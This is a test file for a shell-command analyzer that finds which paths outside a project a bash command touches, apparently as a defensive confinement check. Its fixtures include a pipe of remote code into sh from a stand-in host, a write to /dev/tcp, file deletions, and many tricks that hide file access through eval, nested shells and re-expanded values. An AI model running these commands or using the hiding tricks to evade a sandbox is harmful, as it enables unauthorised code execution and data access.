"""Which outside paths a command touches: the kinds of ways to name one, and those that are none."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence.engine.filesystem import NoFileSystem
from ringfence.engine.shell import Shell, evaluate
from ringfence.rules.model import Certainty, OpaqueKind, Operation

TOUCHED = [
    # quoting and expansion
    ("cat $'\\x2fetc/x'", ["/etc/x"]),
    ("cat \\/etc/x", ["/etc/x"]),
    ('cat /et"c/"x', ["/etc/x"]),
    ("D=/etc; cat $D/x", ["/etc/x"]),
    ('D=/etc && cat "${D}"/x', ["/etc/x"]),
    ("p=/et; cat ${p}c/x", ["/etc/x"]),
    ("declare d=/etc; cat $d/x", ["/etc/x"]),
    ('a=(/etc/x y); cat "${a[@]}"', ["/etc/x"]),
    ('declare -A m=([k]=/etc/x); cat "${m[k]}"', ["/etc/x"]),
    ("cat {/etc/x,y}", ["/etc/x"]),
    ("ls .{.,}/", ["/home/me"]),
    ("cat ~/x", ["/home/me/x"]),
    ("cat ~root/x", ["/root/x"]),
    ("cat ~you/x", ["/home/you/x"]),
    ("cat ${NEVER_SET:-/etc}/x", ["/etc/x"]),
    ("read d <<< /etc; cat $d/x", ["/etc/x"]),
    ("printf -v f '/%s/x' etc; cat $f", ["/etc/x"]),
    ("cat $(echo /etc/x)", ["/etc/x"]),
    ('cat "$(dirname "$PWD")/x"', ["/home/me/x"]),
    ("x=/etc/ab; cat ${x%b}x", ["/etc/ax"]),
    ('set -- /etc/x; cat "$1"', ["/etc/x"]),
    ('f() { cat "$1"; }; f /etc/x', ["/etc/x"]),
    ("for f in /etc/x y; do cat $f; done", ["/etc/x"]),
    ("for f in /etc/*; do cat $f; done", ["/etc/*"]),
    ("cat /e?c/x", ["/e?c/x"]),
    ("echo ../*", ["/home/me/*"]),
    ("shopt -s extglob\ncat /etc/@(a|b).c", ["/etc/*.c"]),
    ("IFS=:; p=/etc/x:/etc/y; cat $p", ["/etc/x", "/etc/y"]),
    ("x='cat /etc/x'; $x", ["/etc/x"]),
    # redirections
    ("echo x > /etc/x", ["/etc/x"]),
    ("echo x >> ../x", ["/home/me/x"]),
    ("echo x >| /etc/x", ["/etc/x"]),
    ("make &> /etc/x", ["/etc/x"]),
    ("make >& /etc/x", ["/etc/x"]),
    ("cat < /etc/x", ["/etc/x"]),
    ("exec 3<> /etc/x", ["/etc/x"]),
    ("exec {fd}> /etc/x", ["/etc/x"]),
    ("> /etc/x", ["/etc/x"]),
    ("{ echo a; } > /etc/x", ["/etc/x"]),
    ("while read l; do :; done < /etc/x", ["/etc/x"]),
    ("f() { :; } > /etc/x; f", ["/etc/x"]),
    ("x=$(< /etc/x)", ["/etc/x"]),
    ("cat <<E\n$(cat /etc/x)\nE", ["/etc/x"]),
    # commands in commands
    ('echo "$(cat /etc/x)"', ["/etc/x"]),
    ("echo `cat /etc/x`", ["/etc/x"]),
    ("diff <(cat /etc/x) y", ["/etc/x"]),
    ("echo x | tee >(cat > /etc/x)", ["/etc/x"]),
    ("echo $((1 + $(wc -l < /etc/x)))", ["/etc/x"]),
    ("bash -c 'cat /etc/x'", ["/etc/x"]),
    ("bash -c 'cat \"$1\"' _ /etc/x", ["/etc/x"]),
    ("bash -c \"bash -c 'cat /etc/x'\"", ["/etc/x"]),
    ("X=/etc/x bash -c 'cat $X'", ["/etc/x"]),
    ("f() { cat /etc/x; }; export -f f; bash -c f", ["/etc/x"]),
    ("eval 'cat /etc/x'", ["/etc/x"]),
    ("eval cat /etc/x", ["/etc/x"]),
    ("x='cat /etc/x'; eval \"$x\"", ["/etc/x"]),
    ("bash <<'E'\ncat /etc/x\nE", ["/etc/x"]),
    ("bash <<< 'cat /etc/x'", ["/etc/x"]),
    ("echo 'cat /etc/x' | sh", ["/etc/x"]),
    ("bash <(echo cat /etc/x)", ["/etc/x"]),
    ("source <(echo x=/etc/x); cat $x", ["/etc/x"]),
    ("echo /etc/x | xargs cat", ["/etc/x"]),
    ("echo x | xargs -I{} cat /etc/{}", ["/etc/x"]),
    ("xargs cat <<< /etc/x", ["/etc/x"]),
    ("sudo env A=1 nice timeout 3 cat /etc/x", ["/etc/x"]),
    ("sudo bash -c 'cat ~/x'", ["/home/me/x", "/root/x"]),
    ("env -C /etc cat x", ["/etc", "/etc/x"]),
    ("find . -exec cp {} /etc/x \\;", ["/etc/x"]),
    # What is found may be the root itself, and -execdir runs beside it.
    ("find src -exec ls {}/../.. \\;", ["/home/me"]),
    ("find . -execdir cat ../x \\;", ["/home/me/x"]),
    ("for d in $(find . -type d); do ls $d/..; done", ["/home/me"]),
    ("command cat /etc/x; builtin source /etc/y", ["/etc/x", "/etc/y"]),
    ("exec cat /etc/x", ["/etc/x"]),
    ("trap 'rm /etc/x' EXIT", ["/etc/x"]),
    ("coproc cat /etc/x", ["/etc/x"]),
    ("cat /etc/x &", ["/etc/x"]),
    ("! cat /etc/x", ["/etc/x"]),
    ("time cat /etc/x", ["/etc/x"]),
    ("shopt -s expand_aliases; alias c='cat'; eval 'c /etc/x'", ["/etc/x"]),
    # what bash expands or evaluates once more
    ("mapfile -C 'cat /etc/x #' l <<< a", ["/etc/x"]),
    ("compgen -C 'cat /etc/x'", ["/etc/x"]),
    ("ls /etc; cat $_/x", ["/etc", "/etc/x"]),
    # what the command wrote itself
    ("cp /dev/stdin s <<< 'cat /etc/x'; bash s", ["/etc/x"]),
    ("echo /etc/x > l; cat $(cat l)", ["/etc/x"]),
    ("echo 'cat /etc/x' > s; bash s", ["/etc/x"]),
    ("cat > s <<'E'\ncat /etc/x\nE\nsource s", ["/etc/x"]),
    # tests and commands that are paths
    ("[ -f /etc/x ]", ["/etc/x"]),
    ("test -e a -a -e /etc/x", ["/etc/x"]),
    ("[[ -f a || ! -d /etc/x ]]", ["/etc/x"]),
    ("[ a -nt /etc/x ]", ["/etc/x"]),
    ("/opt/x/run y", ["/opt/x/run"]),
    ("../run", ["/home/me/run"]),
    # ways that may be taken
    ("bash -oc pipefail 'cat /etc/x'", ["/etc/x"]),  # bash takes no value from the letters
    ("bash -eoO pipefail extglob -c 'cat /etc/x'", ["/etc/x"]),
    ("bash -coO pipefail extglob 'cat /etc/x'", ["/etc/x"]),
    ("unheard_of && cat /etc/x", ["/etc/x"]),
    ("true && cat /etc/x", ["/etc/x"]),
    ("if unheard_of; then cat /etc/x; fi", ["/etc/x"]),
    ("case $NEVER_SET in a) cat /etc/x;; esac", ["/etc/x"]),
    ("while unheard_of; do cat /etc/x; done", ["/etc/x"]),
]

UNTOUCHED = [
    "echo /etc/x",
    "cat /dev/null > x",
    "make 2>&1 >/dev/null",
    "echo x > /dev/stderr",
    "cat < /dev/stdin",
    "echo x > /dev/tcp/host/80",
    "ls src # see /etc/x",
    "cat <<< /etc/x",
    "cat <<'E'\n$(cat /etc/x)\nE",
    "cat <<E\n/etc/x \\$(cat /etc/x)\nE",
    "case /etc/x in /etc/*) ;; esac",
    "[[ $NEVER_SET == /etc/* ]]",
    "[[ /etc/x =~ ^/etc ]]",
    '[ "$NEVER_SET" = /etc/x ]',
    "x=/etc/x; y=${x##*/}; cat $y",
    "alias l='ls /etc'",
    "f() { cat /etc/x; }",
    'cat() { echo "$@"; }; cat /etc/x',
    "false && cat /etc/x",
    "true || cat /etc/x",
    "exit; cat /etc/x",
    "f() { return; cat /etc/x; }; f",
    "if false; then cat /etc/x; fi",
    "case a in b) cat /etc/x;; esac",
    "while false; do cat /etc/x; done",
    "for f in; do cat /etc/x; done",
    "export D=/etc",
    "D=/etc; echo $D",
    "D=/etc; unset D; cat x$D",
    "HOME=$PWD; cat ~/x",
    "cat '~/x' a~/x",
    "cat '/etc'/../home/me/app/x",
    "cat log-$(date +%s)-$RANDOM-$$",
    "cat $(git ls-files)",
    "for i in {1..200}; do touch f$i; done",
    "find . -name '*.py' | while read -r f; do wc \"$f\"; done",
    "exec 5> x; echo y >&5; exec 5>&-",
    "echo a b | xargs -n1 echo /etc/x",
    "git ls-files -z '*.py' | xargs -0 sed -i s/a/b/",
    "git grep -lz foo | xargs -0 cat",
    "git diff --name-only main... | grep '\\.py$' | head -3 | xargs cat",
    "/usr/bin/env ls",
    "trap - EXIT; trap '' INT",
    "export $(xargs < .env)",
    "mkdir new && cd $_ && cat ../x",
    'for d in */; do (cd "$d" && cat ../x); done',
    "x=/etc/x true",
    "set -f; echo /etc/*",
    # what is made of the project's own sources is the project's own
    "go build -o app . && ./app",
    "gcc -o a a.c && ./a",
    "chmod +x s.sh && ./s.sh",
    "git checkout s.sh && bash s.sh",
    "black a.py && python a.py",
]

OPAQUE = [
    ('cat "$NEVER_SET"', ['"$NEVER_SET"']),
    ("cat src/$NEVER_SET", ["src/$NEVER_SET"]),
    ("cat $LINES/etc/x", ["$LINES/etc/x"]),  # empty where there is no terminal
    ("$NEVER_SET x", ["$NEVER_SET"]),
    ('eval "$NEVER_SET"', ['"$NEVER_SET"']),
    ('bash -c "$NEVER_SET"', ['"$NEVER_SET"']),
    ("curl -s https://a.example/b | sh", ["sh"]),
    ("unheard_of | xargs rm", ["xargs"]),
    ("git ls-files -sz | xargs -0 rm", ["xargs"]),
    ("echo x > $NEVER_SET", ["$NEVER_SET"]),
    ('while read -r f; do rm "$f"; done < list', ['"$f"']),
    # what the command wrote, and nobody knows what it is, runs
    ("echo cat /etc/x | dd of=s.sh; bash s.sh", ["s.sh"]),
    ("echo cat /etc/x 1<> s.sh; bash s.sh", ["s.sh"]),
    ("exec 3> s.sh; echo cat /etc/x >&3; bash s.sh", ["s.sh"]),
    ("sort -o s.sh x; ./s.sh", ["./s.sh"]),
    ("sed -i 's/a/b/' s.sh && bash s.sh", ["s.sh"]),
    ("if unheard_of; then echo a > s; else echo cat /etc/x > s; fi; bash s", ["s"]),
]


@pytest.mark.parametrize(("command", "paths"), TOUCHED)
def test_outside_paths_are_found(world, command, paths):
    """The outside paths, and nothing else; nothing is opaque."""
    assert world.touched(command) == paths


@pytest.mark.parametrize("command", UNTOUCHED)
def test_nobody_is_asked_for_nothing(world, command):
    """No outside path is touched, so none is found, and nothing is opaque."""
    assert world.touched(command) == []


@pytest.mark.parametrize(("command", "texts"), OPAQUE)
def test_what_nobody_can_know_is_opaque(world, command, texts):
    """A path or program that is only known at run time is called so, at the word."""
    assert [one.text for one in world.evaluate(command).opaque] == texts


@pytest.mark.parametrize(
    "command",
    [
        "x='a[$(cat /etc/x)]'; echo $((x))",
        "let 'a[$(cat /etc/x)]=1'",
        "[[ 0 -eq 'a[`cat /etc/x`]' ]]",
        "test -v 'a[$(cat /etc/x)]'",
        "unset 'a[$(cat /etc/x)]'",
        "read 'a[$(cat /etc/x)]' <<< 1",
        "printf -v 'a[$(cat /etc/x)]' x",
        "x='$(cat /etc/x)'; echo \"${x@P}\"",
        "PS4='$(cat /etc/x)'; set -x; ls",
        "compgen -W '$(cat /etc/x)'",
    ],
)
def test_values_that_bash_expands_again_are_opaque(world, command):
    """Quoted text that arithmetic, prompts and subscripts would run hides nothing."""
    (one,) = world.evaluate(command).opaque
    assert "expands again" in one.reason


@pytest.mark.parametrize(
    ("command", "certainty"),
    [
        ("cat /etc/x", Certainty.CERTAIN),
        ("true && cat /etc/x", Certainty.CERTAIN),
        ("for i in a b; do cat /etc/x; done", Certainty.CERTAIN),
        ("unheard_of && cat /etc/x", Certainty.POSSIBLE),
        ("unheard_of || cat /etc/x", Certainty.POSSIBLE),
        ("if unheard_of; then :; else cat /etc/x; fi", Certainty.POSSIBLE),
        ("while unheard_of; do cat /etc/x; done", Certainty.POSSIBLE),
        ("cat /etc/*", Certainty.POSSIBLE),
        ("cat /etc/$NEVER_SET", Certainty.POSSIBLE),
        ("trap 'cat /etc/x' INT", Certainty.POSSIBLE),
    ],
)
def test_certainty(world, command, certainty):
    """What happens whenever the command runs is certain, the rest is possible."""
    assert [effect.certainty for effect in world.effects(command)] == [certainty]


@pytest.mark.parametrize(
    ("command", "operation"),
    [
        ("cat < /etc/x", Operation.READ),
        ("echo > /etc/x", Operation.WRITE),
        ("rm /etc/x", Operation.DELETE),
        ("/etc/x", Operation.EXECUTE),
        ("cd /etc/x", Operation.ENTER),
        ("[ -e /etc/x ]", Operation.TEST),
        ("source /etc/x", Operation.EXECUTE),
    ],
)
def test_operation(world, command, operation):
    """What happens to the path is said."""
    assert [effect.operation for effect in world.effects(command)] == [operation]


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ("cat 'a' \"/etc/x\"", '"/etc/x"'),
        ("D=/etc; cat $D/x", "$D/x"),
        ("bash -c 'ls; cat /etc/x'", "/etc/x"),
        ('bash -c "cat \\"/etc/x\\""', '"/etc/x\\"'),
        ('bash -c "cat $HOME/x"', '"cat $HOME/x"'),
        ("eval cat '/etc/x'", "/etc/x"),
        ("f() { cat /etc/x; }; f", "/etc/x"),
        ("echo x 2> /etc/x", "/etc/x"),
    ],
)
def test_place(world, command, text):
    """An effect points at the word that names the path, in nested texts where that can be."""
    assert {effect.text for effect in world.effects(command)} == {text}


def test_steps_tell_where_a_path_comes_from(world):
    """The way from the assignment to the path is told in order."""
    (effect,) = world.effects('D=/etc\nf=$D/x; cat "$f"')
    assert effect.steps == (
        "`$D` was set to `/etc` at line 1, column 1",
        "`$f` was set to `/etc/x` at line 2, column 1",
        "operand of cat",
    )


def test_lines_before_a_syntax_error_run(world):
    """Bash runs what it read before the error; what follows cannot be judged."""
    found = world.evaluate("cat /etc/x\nif; then\n")
    assert [effect.path for effect in found.effects] == ["/etc/x"]
    assert [one.kind for one in found.opaque] == [OpaqueKind.SYNTAX]


@pytest.mark.parametrize(
    "command",
    [
        "f() { f; }; f",
        "f() { f | f & }; f",
        'x=\'eval "$x"\'; eval "$x"',
        "while x=$x$x$x; do y=$y$x; done",
        "a=" + "x" * 5000 + "; " + "a=$a$a$a;" * 20 + "cat src/x",
        "$(" * 200 + ")" * 200,
        'a=(x); for i in {1..60}; do a+=("${a[@]}"); done; show ${#a[@]}',
        "x=" + "a" * 60000 + "; y=${x//a/$x}; show ${#y}",
        "show " + "{a,b}" * 20,
        "echo " + "x/" * 30000 + " | xargs cat",
        "x=$((2**62)); for ((i=0; i<x; i++)); do cat $i; done",
        "for i in {1..60}; do for j in {1..60}; do for k in {1..60}; do :; done; done; done",
        "while true; do cat <(echo a); done",
        "while true; do :; done",
    ],
)
def test_no_command_takes_long(world, command):
    """Endless and deep commands end at a limit, as opaque ones or with a fixed point."""
    found = world.evaluate(command)
    assert all(one.kind is not OpaqueKind.UNKNOWN for one in found.opaque)


WRAPPERS = [
    "{}",
    "( {} )",
    "{{ {}; }}",
    "! {}",
    "if true; then {}; fi",
    "unheard_of; {}",
    "unheard_of && {}",
    "{{ f() {{ {}; }}; f; }}",
    "x=$( {} )",
    "for i in 1 2; do {}; done",
    "while unheard_of; do {}; done",
    "{} | cat",
    "cat | {}",
    "{} &",
    "eval '{}'",
    "bash -c '{}'",
    "bash <<'END'\n{}\nEND",
    "trap '{}' EXIT",
    "case $RANDOM in 1) {};; esac",
    "sudo bash -c '{}'",
]


@given(
    st.sampled_from(["cat /etc/x", "cd .. && cat x", "echo a > /etc/x", "cat $NEVER_SET"]),
    st.lists(
        st.sampled_from([w for w in WRAPPERS if not any(c in w for c in ("'", "END", "&", "!"))]),
        max_size=4,
    ),
    st.sampled_from(WRAPPERS),
)
def test_wrapping_never_hides_anything(command, inner, outer):
    """Whatever a command is put into, at least the same paths and unknowns are found."""
    from ringfence.engine.filesystem import NoFileSystem
    from ringfence.engine.shell import Shell, evaluate

    shell = Shell("/home/me/app", {"HOME": "/home/me"}, NoFileSystem())
    wrapped = f"{{ {command}; }}"  # so that every wrapper takes the whole of it
    for wrapper in (*inner, outer):
        wrapped = wrapper.format(wrapped)
    plain, found = evaluate(command, shell), evaluate(wrapped, shell)
    assert {e.path for e in plain.effects} <= {e.path for e in found.effects}
    assert len(plain.opaque) <= len(found.opaque)


TOKENS = [
    *("cat", "/etc/x", "x=", "$x", "${x", "}", "$(", ")", "`", "'", '"', "\\", "<<E", "\nE\n"),
    *("|", "&&", "||", ";", "&", "(", "{", "}", "((", "))", "[[", "]]", "if", "then", "fi"),
    *("for f in", "do", "done", "while", "case", "in", "esac", "<", ">", ">&", "<<<", "!", "*"),
    *("~", "{a,b}", "$((", "1", "+", "function", "f()", "eval", "cd", "..", "set -e", "\0", "\n"),
]


@given(st.lists(st.sampled_from(TOKENS), max_size=14), st.sampled_from(["", " "]))
def test_evaluation_never_fails(tokens, between):
    """Any text has an evaluation: what cannot be read or judged is opaque, never an error."""
    shell = Shell("/home/me/app", {"HOME": "/home/me"}, NoFileSystem())
    found = evaluate(between.join(tokens), shell)
    assert all(0 <= start <= end for start, end in (effect.span for effect in found.effects))


STATUSES = [
    "false; if [ $? -ne 0 ]; then cat /etc/x; fi",
    "false; { if [ $? -ne 0 ]; then cat /etc/x; fi; }",
    "false; V=$?; [ $V = 1 ] && cat /etc/x",
    "x=$(false); if [ $? -ne 0 ]; then cat /etc/x; fi",
    "(exit 2); [ $? -eq 2 ] && cat /etc/x",
    "f() { return 3; }; f; [ $? = 3 ] && cat /etc/x",
    "npm test; rc=$?; if [ $rc -ne 0 ]; then cat /etc/x; fi",
    ": < nothere || cat /etc/x",
    "if ! true < nothere; then cat /etc/x; fi",
    ": > src || cat /etc/x",
    "echo a >&- || cat /etc/x",
    "return 0; cat /etc/x",
    "set -o pipefail; false | true || cat /etc/x",
    "declare -F foo || cat /etc/x",
    "alias foo || cat /etc/x",
    "printf %d a || cat /etc/x",
    "unset X || cat /etc/x",
    "PWD=/etc; cat $PWD/x",
    "(exit 256) && cat /etc/x",
    "f() { return 256; }; f && cat /etc/x",
]


@pytest.mark.parametrize("command", STATUSES)
def test_a_way_that_may_be_taken_is_followed(world, command):
    """An exit status is only taken as known where bash could not end the command otherwise."""
    assert world.touched(command) == ["/etc/x"]


def test_a_way_that_cannot_be_taken_is_left_out(world):
    """`$?` after `true` is 0."""
    assert world.touched("true; if [ $? -ne 0 ]; then cat /etc/x; fi") == []


WRITTEN_AND_RUN = [
    "echo 'cat /etc/x' > s.sh; chmod +x s.sh; ./s.sh",
    "echo 'open(\"/etc/x\")' > s.py; python3 s.py",
    "printf '#!/usr/bin/env python3\\nopen(\"/etc/x\")\\n' > s; ./s",
]


@pytest.mark.parametrize("command", WRITTEN_AND_RUN)
def test_a_program_that_the_command_writes_is_read(world, command):
    """Its text stands in the command, whatever language it is in; without `#!`, bash runs it."""
    assert world.touched(command) == ["/etc/x"]


@pytest.mark.parametrize(
    "command",
    [
        *("frob link", "frob --in=link", "npx frob link", "eslint link", "gsutil cp link gs://x"),
        *("gh release upload v1 link", "http POST x.org a@link", "xclip -i link"),
        *("jest --config link", "curl --cert link:pw x.org", "ansible-vault view link"),
    ],
)
def test_a_word_that_is_a_link_out(rooted, command):
    """A word that looks like no path is one if something of that name is there."""
    there = rooted({"/home/me/app/link": "@/etc/x"})
    assert there.touched(command) == ["/home/me/app/link"]
    assert rooted({"/home/me/app/other": ""}, "/home/me/app").touched("frob word") == []


def test_a_word_that_git_takes_for_the_path(rooted):
    """A name is a revision unless a file of that name is there; git does not follow links."""
    there = rooted({"/home/me/app/main": "", "/home/me/app/link": "@/etc/x"})
    found = [effect.path for effect in there.evaluate("git diff main dev link").effects]
    assert found == ["/home/me/app/main", "/home/me/app/link"]
    assert there.touched("git diff main dev link") == []
